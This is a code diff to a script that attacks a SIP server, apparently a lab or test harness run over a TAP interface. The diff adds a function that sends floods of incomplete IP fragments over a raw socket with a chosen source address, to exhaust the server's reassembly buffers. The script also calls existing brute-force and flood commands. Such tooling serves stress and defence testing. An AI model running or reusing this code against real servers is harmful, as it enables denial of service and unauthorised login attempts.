@@ -144,6 +144,21 @@ def flood(base, nsrc, rate, secs, maxpkts):
           % (sent, el, sent / el, answered, answered / el))
 
 
+def frags(src, n):
+    """First fragments of n datagrams that never complete (RFC 791: held
+    until the reassembly timer); paced so the TAP queue keeps them all."""
+    import struct
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    udp = struct.pack("!HHHH", 5062, 5060, 3000, 0) + b"a" * 1472
+    for i in range(n):
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x4000 + i, 0x2000, 64, 17, 0,
+                         socket.inet_aton(src), socket.inet_aton(SERVER[0]))
+        s.sendto(ip + udp, (SERVER[0], 0))
+        if i % 50 == 49:
+            time.sleep(0.002)
+    print("sent=%d" % n)
+
+
 def main():
     cmd, a = sys.argv[1], sys.argv[2:]
     if cmd == "brute":        # brute SRC USER N [PORT]
@@ -153,6 +168,8 @@ def main():
     elif cmd == "options":    # options SRC COUNT [UA] [PORT]
         options(a[0], int(a[1]), a[2] if len(a) > 2 and a[2] else None,
                 int(a[3]) if len(a) > 3 else 0)
+    elif cmd == "frags":      # frags SRC N
+        frags(a[0], int(a[1]))
     elif cmd == "flood":      # flood BASE NSRC RATE SECS MAXPKTS
         flood(a[0], int(a[1]), int(a[2]), float(a[3]), int(a[4]))
     else:
